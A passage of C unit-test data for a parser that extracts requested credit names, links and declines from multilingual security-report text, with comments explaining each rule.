	{ "Merci de nous créditer comme \"Orque Sécurité\" (https://orque.example). Nos consultants préfèrent ne pas "
	  "être cités.", TRUE, FALSE, "Orque Sécurité", "https://orque.example" },
	{ "Por favor, acreditadnos como \"Sierra Roja Labs\" (https://sr.example). Nuestros investigadores prefieren no "
	  "ser nombrados.", TRUE, FALSE, "Sierra Roja Labs", "https://sr.example" },
	{ "Podem nos creditar como \"Ipê Labs\" (https://ipe.example). Os pesquisadores preferem não ser citados "
	  "individualmente.", TRUE, FALSE, "Ipê Labs", "https://ipe.example" },
	{ "Gostaríamos de ser creditados como Ipê Labs (https://ipe.example).", TRUE, FALSE, "Ipê Labs",
	  "https://ipe.example" },
	{ "Per favore citateci come \"Laguna Sec\" (https://laguna.example). I nostri ricercatori preferiscono non "
	  "essere citati.", TRUE, FALSE, "Laguna Sec", "https://laguna.example" },
	/* (#3) a platform relaying the hunter's requested credit, the link
	 * pointed back to; a link above with no pointer to it is not taken */
	{ "Hunter: kestrel_v (https://bounty.example/u/kestrel_v)\nResearcher's requested credit: \"kestrel_v\", "
	  "profile link above\n", TRUE, FALSE, "kestrel_v", "https://bounty.example/u/kestrel_v" },
	{ "See https://docs.example/run for the setup.\nPreferred credit: Mina Sato\n", TRUE, FALSE, "Mina Sato",
	  NULL },
	{ "The requested credit card number is not validated.", FALSE, FALSE, NULL, NULL },
	{ "Individual researchers prefer not to be named.", TRUE, TRUE, NULL, NULL },
	{ "Please credit our company. Individual researchers prefer not to be named.", TRUE, TRUE, NULL, NULL },
	{ "Please credit me as Jane Doe. I prefer not to be named.", TRUE, TRUE, NULL, NULL },
	{ "Please credit Jane Doe. Please don't name me; the individual steps are below.", TRUE, TRUE, NULL, NULL },
	{ "Não queremos ser citados. Podem nos creditar como Ipê Labs? Não.", TRUE, TRUE, NULL, NULL },
	/* (#3) a name given as a list item under a credits heading or label
	 * loses the item's marker (dash, star, bullet, number, task box); a
	 * name or handle that only starts with a dash or a digit keeps it */
	{ "## Credits\n\n* Lin Hao (https://github.com/linhao-sec) - reporter\n", TRUE, FALSE, "Lin Hao",
	  "https://github.com/linhao-sec" },
	{ "### Acknowledgements\n\n1. Priya Raman (https://priya.example)\n", TRUE, FALSE, "Priya Raman",
	  "https://priya.example" },
	{ "## Credit\n\n\xe2\x80\xa2 Oskar Lindqvist\n\nThanks.", TRUE, FALSE, "Oskar Lindqvist", NULL },
	{ "Credit: - Hana Kobayashi, https://hana.example\n", TRUE, FALSE, "Hana Kobayashi", "https://hana.example" },
	{ "- [x] Credit: Ruth Adler\n", TRUE, FALSE, "Ruth Adler", NULL },
	{ "Credit: 42 Labs Research\n", TRUE, FALSE, "42 Labs Research", NULL },
	{ "Credit: Anna-Maria Vogt\n", TRUE, FALSE, "Anna-Maria Vogt", NULL },
	/* (#3) a request that names whom to credit instead of the writer,
	 * then its name, in the languages the requests are read in: the
	 * name is that; a clause after the comma is no name */
	{ "Please credit my employer, Harbor Nine Security (https://h9.example), not me.", TRUE, FALSE,
	  "Harbor Nine Security", "https://h9.example" },
	{ "Credit: please credit our research group, Tidewater Systems Group.\n", TRUE, FALSE,
	  "Tidewater Systems Group", NULL },
	{ "Credit: our lab - Kelp Systems Lab\n", TRUE, FALSE, "Kelp Systems Lab", NULL },
	{ "Credit: bitte meinen Arbeitgeber, Nordlicht GmbH (https://nordlicht.example)\n", TRUE, FALSE,
	  "Nordlicht GmbH", "https://nordlicht.example" },
	{ "Créditos: por favor, mi empresa, Sierra Azul (https://sa.example)\n", TRUE, FALSE, "Sierra Azul",
	  "https://sa.example" },
	{ "Credit: proszę, mojego pracodawcę, Biała Sieć (https://bs.example)\n", TRUE, FALSE, "Biała Sieć",
	  "https://bs.example" },
	{ "Please credit my team, I found it with them.", TRUE, FALSE, NULL, NULL },
	{ "Please credit my employer, which paid for this work.", TRUE, FALSE, NULL, NULL },
	{ "My employer, Harbor Nine Security, runs microsandbox in production.", FALSE, FALSE, NULL, NULL },
	/* (#3) a name in quotes, as written in two scripts, with the link
	 * given between it and the verb of asking ("\"NATIVE (ROMANISED)\"
	 * 과 깃허브 URL 로 적어 주세요", "「NAME」和 GitHub 链接 URL 即可"): the
	 * quoted name whole; a quoted name that nobody asks for is none */
	{ "크레딧에 이름을 넣어 주신다면 \"박지훈 (Jihoon Park)\" 과 깃허브\nhttps://github.com/jhpark-sec 로 적어 주세요.",
	  TRUE, FALSE, "박지훈 (Jihoon Park)", "https://github.com/jhpark-sec" },
	{ "致谢里的名字请写「李明 (Li Ming)」和 GitHub 链接 https://github.com/liming-sec 即可。", TRUE, FALSE,
	  "李明 (Li Ming)", "https://github.com/liming-sec" },
	{ "謝辞には「佐藤 花子」とブログ https://hanako.example で記載してください。", TRUE, FALSE, "佐藤 花子",
	  "https://hanako.example" },
	{ "advisory에 이름을 넣어 주신다면 \"Mint Kim\"으로 부탁드립니다.", TRUE, FALSE, "Mint Kim", NULL },
	{ "이름은 \"박지훈\" 과 깃허브 주소를 같이 봤습니다. 감사합니다.", FALSE, FALSE, NULL, NULL },
	/* (1224) the request asked as a wish with "if you": the team's quoted
	 * name and its link on the next line, a person's name, a lab after a
	 * comma; the writer alone stands nameless; being happy if you fix
	 * something, a credit card or mentioning a workaround asks no credit */
	{ "Our group would be glad if you credit our lab \"Ridgeline Research\"\n(https://ridgeline.example).",
	  TRUE, FALSE, "Ridgeline Research", "https://ridgeline.example" },
	{ "I'd be grateful if you could credit Mira Solberg (https://mira.example) in the advisory.", TRUE,
	  FALSE, "Mira Solberg", "https://mira.example" },
	{ "It would be nice if you acknowledged our lab, Fjord Systems Lab.", TRUE, FALSE, "Fjord Systems Lab",
	  NULL },
	{ "I would be happy if you could credit me.", TRUE, FALSE, NULL, NULL },
	{ "We would be happy if you could fix this before the next release.", FALSE, FALSE, NULL, NULL },
	{ "I'd be glad if you credit card payments for the cloud worked again.", FALSE, FALSE, NULL, NULL },
	{ "We would be happy if you mentioned the workaround in the changelog.", FALSE, FALSE, NULL, NULL },
	/* (1235) the thing credited before "to": the team's name and link
	 * after it; a cause credited is no name */
	{ "Please credit the finding to Harbor Lane Security (https://harborlane.example/).", TRUE, FALSE,
	  "Harbor Lane Security", "https://harborlane.example/" },
	{ "Please attribute this to Oak Ridge Lab, https://oakridge.example", TRUE, FALSE, "Oak Ridge Lab",
	  "https://oakridge.example" },
	{ "Please attribute this to a race in msbd, I think.", FALSE, FALSE, NULL, NULL },
	/* (1234) the handle offered for the credit with its link, in English
	 * and German; a credit card and someone else's tool are none */
	{ "For credit, my handle zarkon7, linking to https://github.com/zarkon-7, is fine.", TRUE, FALSE,
	  "zarkon7", "https://github.com/zarkon-7" },
	{ "For the credit, my nickname pelle_x with https://gitlab.com/pellex would be great.", TRUE, FALSE,
	  "pelle_x", "https://gitlab.com/pellex" },
	{ "Für die Credits: mein Handle nordlicht, https://codeberg.org/nordlicht", TRUE, FALSE, "nordlicht",
	  "https://codeberg.org/nordlicht" },
	{ "For the credit card, my username on the cloud is lena_ops.", FALSE, FALSE, NULL, NULL },
	{ "Credit: @mirela_sec (https://github.com/mirela-sec)", TRUE, FALSE, "@mirela_sec",
	  "https://github.com/mirela-sec" },
	{ "We found it with the fuzzer by @toolsmith (https://github.com/toolsmith/fuzz), thanks to them.", FALSE,
	  FALSE, NULL, NULL },
	{ "The PoC is in https://github.com/someone/poc-repo, please run it as root.", FALSE, FALSE, NULL, NULL },
	/* (1220) a name with its handle in parentheses, the network named
	 * first: the name ends before it, the link is the one given */
	{ "Please credit me as Ana Lima (X: @analima_sec <https://x.com/analima_sec>).", TRUE, FALSE, "Ana Lima",
	  "https://x.com/analima_sec" },
	{ "Please credit me as Tomas Ruiz (GitHub: truiz).", TRUE, FALSE, "Tomas Ruiz", NULL },
	{ "I am Ana Lima (X: @analima_sec), backend developer at Kestrel Soft.", FALSE, FALSE, NULL, NULL },
	/* (1231) Hungarian: the name asked for before "nevet", after a
	 * conditional naming verb or "kérem"; a sandbox's name to use or a
	 * bug to mention is none */
	{ "Ha a javításban feltüntetitek, a lacika_77 nevet kérném, a profilom: https://github.com/lacika77", TRUE,
	  FALSE, "lacika_77", "https://github.com/lacika77" },
	{ "Kérem, a Fekete Dóra nevet tüntessék fel.", TRUE, FALSE, "Fekete Dóra", NULL },
	{ "Kérem, a ci_job nevet használják a tesztben.", FALSE, FALSE, NULL, NULL },
	{ "Ha megemlítenétek a hibát a changelogban, köszönöm.", FALSE, FALSE, NULL, NULL },
	/* (1376) the name ends before a pointer to where it is written: "as
	 * in the file", "as shown in the report" */
	{ "Please acknowledge Brightmoor Labs as shown in the report header.", TRUE, FALSE, "Brightmoor Labs", NULL },
	{ "Please credit Dana Cole as usual, https://dcole.example", TRUE, FALSE, "Dana Cole", "https://dcole.example" },
	/* (1392) a Latin-script name before the word for "in the name of" in
	 * Japanese, Korean, Chinese; a file published under a name is none */
	{ "謝辞には Mina Takeda 名義でお願いします。", TRUE, FALSE, "Mina Takeda", NULL },
	{ "크레딧은 Park Jiwoo 명의로 부탁드립니다.", TRUE, FALSE, "Park Jiwoo", NULL },
	{ "致谢请以 Chen Hao 的名义，链接 https://chenhao.example", TRUE, FALSE, "Chen Hao", "https://chenhao.example" },
	{ "このファイルは Docker 名義で公開されています。", FALSE, FALSE, NULL, NULL },
	/* (1395) a form's credit field answered "Yes - NAME, LINK", the field
	 * named without an article; a bare "No" is no name */
	{ "Credit in advisory:   Yes - Amara Lindqvist, https://github.com/alindq", TRUE, FALSE, "Amara Lindqvist", "https://github.com/alindq" },
	{ "Credit in changelog: yes: Piet Hein", TRUE, FALSE, "Piet Hein", NULL },
	/* (1390) Catalan: a wish with "que" and a subjunctive, "com a" before
	 * the name, "si us plau" after it; a negated wish is none */
	{ "M'agradaria que hi constés com a Núria Soler (https://nsoler.example).", TRUE, FALSE, "Núria Soler", "https://nsoler.example" },
	{ "Voldria que em citéssiu com a Marta Vilanova.", TRUE, FALSE, "Marta Vilanova", NULL },
	{ "Esmenteu-me com a Pau Ferrer, si us plau.", TRUE, FALSE, "Pau Ferrer", NULL },
	{ "No m'agradaria que hi constés com a exemple.", FALSE, FALSE, NULL, NULL },
	/* (1368) Norwegian (Nynorsk and Bokmål), Danish, Swedish: the
	 * passive with "bli"/"verte"/"blive", the writer its subject; a file
	 * to be named is none */
	{ "Me vil gjerne verte nemnde som «Hordaland Driftsgruppa».", TRUE, FALSE, "Hordaland Driftsgruppa", NULL },
	{ "Jeg vil gjerne bli nevnt som Kari Nordmann (https://kari.example).", TRUE, FALSE, "Kari Nordmann", "https://kari.example" },
	{ "Vi vil gerne blive nævnt som Nordlys Sikkerhed.", TRUE, FALSE, "Nordlys Sikkerhed", NULL },
	{ "Jag vill gärna bli nämnd som Erik Lund.", TRUE, FALSE, "Erik Lund", NULL },
	{ "Nemn oss som Vestland IT, takk.", TRUE, FALSE, "Vestland IT", NULL },
	{ "Filen skal bli nevnt som Config i dokumentasjonen.", FALSE, FALSE, NULL, NULL },
	/* (1293) a plain-text advisory's numbered or underlined credits
	 * section: the name and firm in its first line; "None" is no name */
	{ "7. Credits\n----------\n\nAnja Brandt, Kieselstein Labs GmbH (https://kieselstein.example)\n", TRUE, FALSE,
	  "Anja Brandt, Kieselstein Labs GmbH", "https://kieselstein.example" },
	{ "Acknowledgements\n================\nMiriam Oduya (https://oduya.example)\n", TRUE, FALSE, "Miriam Oduya", "https://oduya.example" },
	{ "Credits\n-------\n\nNone requested.\n", FALSE, FALSE, NULL, NULL },
	{ "3. Credits\nN/A\n", FALSE, FALSE, NULL, NULL },
	/* a template's credit field left unfilled names no one (1459, 1467),
	 * in any language; a name that merely starts like a placeholder word
	 * is still a name */
	{ "### Acknowledgements\n\nTBA\n\n### Disclosure\n\nnone yet", FALSE, FALSE, NULL, NULL },
	{ "CREDIT\n------\nHandle: [your handle]\nWebsite: [url]\n", FALSE, FALSE, NULL, NULL },
	{ "Credit line: <Firstname Lastname>", FALSE, FALSE, NULL, NULL },
	{ "Credit: {{reporter_name}}", FALSE, FALSE, NULL, NULL },
	{ "Credits: your name here", FALSE, FALSE, NULL, NULL },
	{ "Crédits : à compléter\n", FALSE, FALSE, NULL, NULL },
	{ "Créditos: por definir", FALSE, FALSE, NULL, NULL },
	{ "Danksagung: Ihr Name\n", FALSE, FALSE, NULL, NULL },
	{ "クレジット: 未定", FALSE, FALSE, NULL, NULL },
	{ "Credits: Todorov Labs", TRUE, FALSE, "Todorov Labs", NULL },
	{ "Credit: Tbilisi Security Group (https://tsg.example)", TRUE, FALSE, "Tbilisi Security Group", "https://tsg.example" },
	/* two people and their firm after a comma: the firm is an affiliation,
	 * as in parentheses (1461); a clause after the comma is none */
	{ "Kindly credit: Marta Ilves and Ott Kask, Läänemere Turva & Partners OÜ\n(https://lt-partners.example/research)", TRUE,
	  FALSE, "Marta Ilves and Ott Kask, Läänemere Turva & Partners OÜ", "https://lt-partners.example/research" },
	{ "Credits: Hugo Almeida, Rita Sousa and Nuno Reis, Atlântico Cyber Lda", TRUE, FALSE,
	  "Hugo Almeida, Rita Sousa and Nuno Reis, Atlântico Cyber Lda", NULL },
	{ "Credit: If it is published at all, then please write my full name out in the advisory", FALSE, FALSE, NULL, NULL },
	/* a colleague passes on the finder's wish and declines a mention for
	 * himself (1478): the finder is credited */
	{ "Dervla found this. She would like to be credited as Dervla Quinn (https://dquinn.example); please don't credit me.",
	  TRUE, FALSE, "Dervla Quinn", "https://dquinn.example" },
	{ "Kenji asked me to pass on that he'd like to be credited as Kenji Mori. No need to mention me, I only forwarded it.",
	  TRUE, FALSE, "Kenji Mori", NULL },
	{ "C'est ma collègue qui a trouvé la faille. Elle souhaite être créditée comme Maëlle Riou. Pas besoin de me citer.",
	  TRUE, FALSE, "Maëlle Riou", NULL },
	/* the decline for the team, or a writer's own request next to it,
	 * stays a decline */
	{ "No need to mention us. She would like to be credited as Nora Pike.", TRUE, TRUE, NULL, NULL },
	{ "Please don't credit me. I'd like to be credited as Bob Hale later, maybe.", TRUE, TRUE, NULL, NULL },
	/* a change of a credit already given: the new name wins over the old
	 * one told before it (1572) */
	{ "Your GHSA from March credited me as \"zx-tomas\", an old nickname. Could you update it to my real name, Tomas Lindqvist (https://tlindqvist.example)?",
	  TRUE, FALSE, "Tomas Lindqvist", "https://tlindqvist.example" },
	{ "The changelog credits me as \"kiwi_sec\". If possible, please replace it with Aroha Ngata, https://arohangata.example - thanks!",
	  TRUE, FALSE, "Aroha Ngata", "https://arohangata.example" },
	{ "I was credited as \"b0rk\" in last month's advisory, but I'd now prefer Beatrix Orkney.",
	  TRUE, FALSE, "Beatrix Orkney", NULL },
	{ "The advisory credits us as \"Team Pelican\"; could you please use Pelican Labs GmbH instead?",
	  TRUE, FALSE, "Pelican Labs GmbH", NULL },
	/* the same credit as elsewhere, or a change of something else: the
	 * name told stays */
	{ "The Foo project credited me as \"nullcat\" last year; please credit me the same way here.",
	  TRUE, FALSE, "nullcat", NULL },
	{ "Please credit me as \"nullcat\". Could you also change the default to 0600 in the next release?",
	  TRUE, FALSE, "nullcat", NULL },
	{ "Please credit me as \"nullcat\". You may want to update the docs to mention the flag.",
	  TRUE, FALSE, "nullcat", NULL },
	{ "Please credit me as \"nullcat\". Could you change it to use O_NOFOLLOW instead?",
	  TRUE, FALSE, "nullcat", NULL },
	/* (1758) a name of three or more words (two family names, particles)
	 * with a remark in parentheses, in any language, that there is no
	 * page to link, wrapped or not: the remark is not part of the name;
	 * nor is where the name goes ("en el aviso"); an affiliation in
	 * parentheses stays, even one holding "sin" */
	{ "Si sale el aviso, me gustaría aparecer como Rocío Beltrán Olmedo (no tengo\nweb ni perfil en GitHub, con el nombre basta).",
	  TRUE, FALSE, "Rocío Beltrán Olmedo", NULL },
	{ "Pueden acreditarme como María José Ibarra de la Vega en el aviso, gracias.",
	  TRUE, FALSE, "María José Ibarra de la Vega", NULL },
	{ "Podem me creditar como Luís Filipe dos Reis Matos (não tenho site pessoal).",
	  TRUE, FALSE, "Luís Filipe dos Reis Matos", NULL },
	{ "Vous pouvez me citer comme Hélène Marchal-Roux (je n'ai pas de page perso).",
	  TRUE, FALSE, "Hélène Marchal-Roux", NULL },
	{ "Bitte nennt mich als Jonas Albrecht Steiner (ich habe keine eigene Webseite).",
	  TRUE, FALSE, "Jonas Albrecht Steiner", NULL },
	{ "Me gustaría aparecer como Tomás Alcalde (Laboratorio Redes sin Fronteras).",
	  TRUE, FALSE, "Tomás Alcalde (Laboratorio Redes sin Fronteras)", NULL },
	{ "Me gustaría aparecer como Inés Cabrera Soto. Microsandbox nos ahorra mucho trabajo.",
	  TRUE, FALSE, "Inés Cabrera Soto", NULL },
	/* (#4) where the finder told us, a chat or a forge, is not part of the
	 * name */
	{ "Please credit Jana Kovářová on our Slack as well as in the advisory.",
	  TRUE, FALSE, "Jana Kovářová", NULL },
	{ "Please credit Ruben Okafor via Discord.", TRUE, FALSE, "Ruben Okafor", NULL },
	{ "Please credit Slack Engineering Team.", TRUE, FALSE, "Slack Engineering Team", NULL },
	/* (1759) Japanese names the credit first and asks after it: a
	 * bracketed name (a company's team too) with "as" and the word for
	 * credit or, after a word of publishing, for printing; its link.  Not a
	 * bracket about the docs or a saved setting */
	{ "公表の際は「ハマナス通信株式会社 CSIRT」としてクレジットいただけると助かります。\nhttps://csirt.hamanasu.example/",
	  TRUE, FALSE, "ハマナス通信株式会社 CSIRT", "https://csirt.hamanasu.example/" },
	{ "アドバイザリーには『株式会社トキワ技研 Security Team』の名義で掲載していただければ幸いです。",
	  TRUE, FALSE, "株式会社トキワ技研 Security Team", NULL },
	{ "公開時は「森田 遥」と記載をお願いします。", TRUE, FALSE, "森田 遥", NULL },
	{ "READMEに「--net=none」と記載してください。", FALSE, FALSE, NULL, NULL },
	{ "「既定値」として保存してください。", FALSE, FALSE, NULL, NULL },
	/* (1774) a request to credit someone by name, and beside it the one
	 * who found it declining: the credit stands; the writer declining
	 * stays a decline */
	{ "Si vous publiez un avis, merci de créditer Anne Lefort\n(https://alefort.example) et l'étudiant qui l'a trouvé\npréfère rester anonyme.",
	  TRUE, FALSE, "Anne Lefort", "https://alefort.example" },
	{ "Veuillez créditer Marc Aubert. Ma collègue qui l'a découverte préfère ne pas être citée.",
	  TRUE, FALSE, "Marc Aubert", NULL },
	{ "Por favor, acrediten a Celia Robles. El becario que lo encontró prefiere no ser mencionado.",
	  TRUE, FALSE, "Celia Robles", NULL },
	{ "Please credit Orin Vasquez. The intern who found it would rather not be named.",
	  TRUE, FALSE, "Orin Vasquez", NULL },
	{ "Merci de citer la source dans la documentation.", FALSE, FALSE, NULL, NULL },
	/* (1809) Indonesian and Malay declining to be named in the passive,
	 * with the name first, or with "anonymous" as the answer; anonymous
	 * access and a statement about a log are none */
	{ "Kalau dimuat di buletin keamanan, nama saya tidak usah dicantumkan.", TRUE, TRUE, NULL, NULL },
	{ "Untuk advisory-nya tidak perlu disebutkan namanya, terima kasih.", TRUE, TRUE, NULL, NULL },
	{ "Tak payah sebut nama saya dalam notis keselamatan itu.", TRUE, TRUE, NULL, NULL },
	{ "Kalau ada pengumuman, tanpa nama aja ya.", TRUE, TRUE, NULL, NULL },
	{ "Kami lebih suka tanpa nama di pengumuman itu.", TRUE, TRUE, NULL, NULL },
	{ "Identitas saya mohon dirahasiakan saja.", TRUE, TRUE, NULL, NULL },
	{ "Akses anonim saja sudah cukup untuk membaca file konfigurasi itu.", FALSE, FALSE, NULL, NULL },
	{ "Cukup login sebagai anonim saja, lalu panggil API-nya.", FALSE, FALSE, NULL, NULL },
	{ "Nama saya tidak disebut di log, tapi tokennya tetap bocor.", FALSE, FALSE, NULL, NULL },
	{ "Nama file tidak perlu dicantumkan di laporan.", FALSE, FALSE, NULL, NULL },
	/* (1848) Malay puts, shows or reveals the name: declined; the
	 * same verbs about a file name or a statement are none */
	{ "Kalau keluar notis keselamatan, tak payah letakkan nama saya ya.", TRUE, TRUE, NULL, NULL },
	{ "Mohon jangan paparkan nama kami dalam buletin itu.", TRUE, TRUE, NULL, NULL },
	{ "Nama saya tidak perlu didedahkan kepada umum.", TRUE, TRUE, NULL, NULL },
	{ "Tak perlu letak nama fail dalam konfigurasi, ia dibaca secara automatik.", FALSE, FALSE, NULL, NULL },
	{ "Saya letak nama saya dalam fail README projek itu.", FALSE, FALSE, NULL, NULL },
	{ "Nama saya tidak dipaparkan di log, tapi token tetap bocor.", FALSE, FALSE, NULL, NULL },
	/* (1819) a firm credited after the word for it or "au nom de" */
	{ "Si vous publiez un bulletin, merci de créditer notre cabinet Arvel Sécurité (https://arvel.example/labs).",
	  TRUE, FALSE, "Arvel Sécurité", "https://arvel.example/labs" },
	{ "Pour l'avis, merci de nous créditer au nom de Brisant Labs.", TRUE, FALSE, "Brisant Labs", NULL },
	{ "Por favor, acrediten a nuestra empresa Cortavientos Seguridad.", TRUE, FALSE, "Cortavientos Seguridad", NULL },
	{ "Merci de créditer la société cliente dans votre rapport interne.", FALSE, FALSE, NULL, NULL },
	/* (1820) two or three names joined by the enumeration comma or "and",
	 * an affiliation in full-width parentheses kept with them; a link, a
	 * thank-you or a condition after the name is not part of it */
	{ "若发布公告，请致谢：李明和张婷（东湖理工学院系统安全组）。", TRUE, FALSE,
	  "李明和张婷（东湖理工学院系统安全组）", NULL },
	{ "致谢请写：刘洋、赵倩、孙浩（北川大学信息安全中心）。", TRUE, FALSE,
	  "刘洋、赵倩、孙浩（北川大学信息安全中心）", NULL },
	{ "请致谢：周凯（链接：https://zhoukai.example）。", TRUE, FALSE, "周凯", "https://zhoukai.example" },
	{ "请致谢：周凯、谢谢！", TRUE, FALSE, "周凯", NULL },
	{ "请致谢：吴迪（如果方便的话）。", TRUE, FALSE, "吴迪", NULL },
	{ "C'est moi qui l'ai trouvé et je préfère ne pas être nommé.", TRUE, TRUE, NULL, NULL },
	/* a title's full stop stays in the name and does not end it (1822):
	 * one or two titles, a compound one, in the languages that write
	 * them; "Sr." after a surname is a suffix and the sentence ends */
	{ "Please credit me in the advisory as Dr. Amara Nwosu, https://anwosu.example. Thanks.", TRUE, FALSE,
	  "Dr. Amara Nwosu", "https://anwosu.example" },
	{ "Please credit me as Prof. Dr. Henrike Vogt.", TRUE, FALSE, "Prof. Dr. Henrike Vogt", NULL },
	{ "Please credit Dipl.-Ing. Petra Kos (https://pkos.example).", TRUE, FALSE, "Dipl.-Ing. Petra Kos", "https://pkos.example" },
	{ "Please credit Ms. Rowan Achebe and Mr. Tobi Ade.", TRUE, FALSE, "Ms. Rowan Achebe and Mr. Tobi Ade", NULL },
	{ "Acredítenme como Sra. Lucía Paredes, por favor.", TRUE, FALSE, "Sra. Lucía Paredes", NULL },
	{ "Please credit Walter Finch Sr. The patch looks right to us.", TRUE, FALSE, "Walter Finch Sr.", NULL },
	/* the borrowed "credit" with a Hungarian case ending (1784); a credit
	 * card or a sentence after the colon is none */
	{ "A credithez kérjük: \"Tisza Adatbiztonság Labor\", https://tisza-lab.example", TRUE, FALSE,
	  "Tisza Adatbiztonság Labor", "https://tisza-lab.example" },
	{ "A creditben kérem így szerepeltessenek: Hegedűs Anna, https://hanna.example", TRUE, FALSE, "Hegedűs Anna",
	  "https://hanna.example" },
	{ "A credithez: a hibát nem mi találtuk.", FALSE, FALSE, NULL, NULL },
	{ "A credit kártyás fizetés nem érintett.", FALSE, FALSE, NULL, NULL },
	/* German "mit Namen nennen" without an object, the name with its
	 * title on the next line (1800); a thing named so is none */
	{ "Bei einer Veröffentlichung gerne namentlich erwähnen:\nProf. Dr. Katrin Lenz.", TRUE, FALSE,
	  "Prof. Dr. Katrin Lenz", NULL },
	{ "Falls ihr ein Advisory schreibt, mich bitte mit vollem Namen nennen: Mgr. Jana Horáková.", TRUE, FALSE,
	  "Mgr. Jana Horáková", NULL },
	{ "Bitte die betroffene Datei mit Namen nennen: Config.toml.", FALSE, FALSE, NULL, NULL },
	/* the label of the advisory's line, the name after its colon (1807);
	 * a sentence after the colon is none */
	{ "Per la menzione nell'avviso: Chiara Bellini, https://github.com/cbellini", TRUE, FALSE, "Chiara Bellini",
	  "https://github.com/cbellini" },
	{ "Pour la mention dans l'avis : Hélène Marchand, https://hmarchand.example", TRUE, FALSE, "Hélène Marchand",
	  "https://hmarchand.example" },
	{ "For the line in the advisory: Tomas Varga (https://tvarga.example)", TRUE, FALSE, "Tomas Varga",
	  "https://tvarga.example" },
	{ "For the note in the advisory: The fix needs a restart of msbd.", FALSE, FALSE, NULL, NULL },
	{ "Per la nota nell'advisory: il bug riguarda anche la 0.9.", FALSE, FALSE, NULL, NULL },
	/* a relayed request with the pronoun as its object, in the sentence
	 * that names who the report came from; the writer's own request and a
	 * pronoun with no reporter named before it are not read so */
	{ "This was reported by Mirela Stan (on our Slack), please credit her.", TRUE, FALSE, "Mirela Stan", NULL },
	{ "Found by Ravi Menon on our Discord; please acknowledge him in the advisory.", TRUE, FALSE, "Ravi Menon", NULL },
	{ "This came from Ines Duarte - kindly thank them.", TRUE, FALSE, "Ines Duarte", NULL },
	{ "Thanks to Mirela Stan for the intro, please credit her.", FALSE, FALSE, NULL, NULL },
	/* (#3) the link joined to the name by "and" ends the name, on the
	 * same line or wrapped onto the next; a second name goes on */
	{ "If you put out an advisory, please write my name Sona Petrosyan and\ngithub.com/sonapet", TRUE, FALSE,
	  "Sona Petrosyan", "https://github.com/sonapet" },
	{ "Please credit Lena Park and https://lpark.example in the notes.", TRUE, FALSE, "Lena Park",
	  "https://lpark.example" },
	{ "Bitte nennt mich als Jonas Berg und https://jberg.example", TRUE, FALSE, "Jonas Berg",
	  "https://jberg.example" },
	{ "Please credit Oskar Friis and Ida Berg, https://fjell.example", TRUE, FALSE, "Oskar Friis and Ida Berg",
	  "https://fjell.example" },
	/* (#3) Afrikaans: "please" and "if you" as the mood, "name me" as the
	 * verb; a name with lower-case particles; no wish, none */
	{ "Vir krediet, asseblief: Pieter du Plessis, https://github.com/pdup-za", TRUE, FALSE, "Pieter du Plessis",
	  "https://github.com/pdup-za" },
	{ "As julle 'n advisory publiseer, noem my asseblief as Anri de Villiers.", TRUE, FALSE, "Anri de Villiers",
	  NULL },
	{ "Die krediet-kaart is nie geraak nie, asseblief kyk na die log.", FALSE, FALSE, NULL, NULL },
	/* (#3) Belarusian declines: a negated imperative, staying anonymous,
	 * "no need"; a statement about a thing is none */
	{ "Калі ласка, не згадвайце мяне ў падзяках.", TRUE, TRUE, NULL, NULL },
	{ "Дзякуй. Хачу застацца ананімнай.", TRUE, TRUE, NULL, NULL },
	{ "Маё імя ўказваць у advisory не трэба.", TRUE, TRUE, NULL, NULL },
	{ "SDK не ўказвае версію ў логу, гэта не трэба.", FALSE, FALSE, NULL, NULL },
	/* (#3) Mongolian: the name before the quotative "гэж" and the verb;
	 * a clause there, not a name, is none */
	{ "Талархал хэсэгт намайг Oyun Erdene гэж бичнэ үү.", TRUE, FALSE, "Oyun Erdene", NULL },
	{ "Нэрийг минь Bold Ganbaatar (Tuul Labs) гэж дурдаарай, https://github.com/boldg", TRUE, FALSE,
	  "Bold Ganbaatar (Tuul Labs)", "https://github.com/boldg" },
	{ "Энэ алдааг намайг Debian дээр олсон гэж бичнэ үү.", FALSE, FALSE, NULL, NULL },
	/* (#3) Luxembourgish: the wish in a "wann" clause, the verb after the
	 * name; logging in as someone is none */
	{ "Ech géif mech freeën, wann Dir mech als Claire Hoffmann ernimmt.", TRUE, FALSE, "Claire Hoffmann", NULL },
	{ "Wann Dir mech als Admin aloggt, gesäit een de Log.", FALSE, FALSE, NULL, NULL },
	/* (#3) a name ended by a typographic closing quote loses it as it
	 * loses an ASCII one; a surname's initial keeps its full stop, quoted
	 * or at the sentence's end; a whole surname does not */
	{ "Tomasz would like to be thanked by name. Just “Tomasz W.” please, he is 16.", TRUE, FALSE, "Tomasz W.", NULL },
	{ "Please credit me as „Liesel K.“ in the advisory.", TRUE, FALSE, "Liesel K.", NULL },
	{ "Please credit me as Noor H. Thanks for looking into it.", TRUE, FALSE, "Noor H.", NULL },
	{ "Please credit me as Noor Haddad. Thanks for looking into it.", TRUE, FALSE, "Noor Haddad", NULL },
	{ "Please credit me as «René Aubry», merci.", TRUE, FALSE, "René Aubry", NULL },
	/* (#3) the role the person is credited in before the quoted name */
	{ "Bitte nennen Sie als Entdeckerin \"Hanna Voss, Nordhafen CERT\" mit https://cert.nordhafen.example.", TRUE, FALSE,
	  "Hanna Voss, Nordhafen CERT", "https://cert.nordhafen.example" },
	{ "Please credit as finder “Olu Ade”, no link.", TRUE, FALSE, "Olu Ade", NULL },
	{ "Please credit the finder, Olu Ade.", TRUE, FALSE, "Olu Ade", NULL },
	/* (#3) a decline taken back by a contrast and a name: the name wins;
	 * a contrast with no name after it leaves the decline */
	{ "I don't need credit, but if you keep a thanks page, \"Ines Marlow\" is fine.", TRUE, FALSE, "Ines Marlow", NULL },
	{ "No need to credit me. But if you publish names, please use Ines Marlow.", TRUE, FALSE, "Ines Marlow", NULL },
	{ "No need to credit me, but thanks for the quick turnaround.", TRUE, TRUE, NULL, NULL },
	{ "Please keep me anonymous, but if you must credit someone, credit the team.", TRUE, TRUE, NULL, NULL },
	{ "Please keep me anonymous. The crash however is easy to trigger and Docker Desktop is fine.", TRUE, TRUE, NULL, NULL },
	{ "Our thanks list for this release is long already.", FALSE, FALSE, NULL, NULL },
	/* (#3) credit wishes missed or cut: a bare "credit as" with a
	 * lower-case handle (not "credit as well/soon/the ..."); Icelandic
	 * "vera nefnd(ur): NAME" (not "vera skráð: ..."); Macedonian
	 * "наведете ме како NAME" (not a lower-case role, not negated); the
	 * Nepali and Hindi decline ("credit चाहिँदैन", "नाम नराख्नुहोला"); Amharic
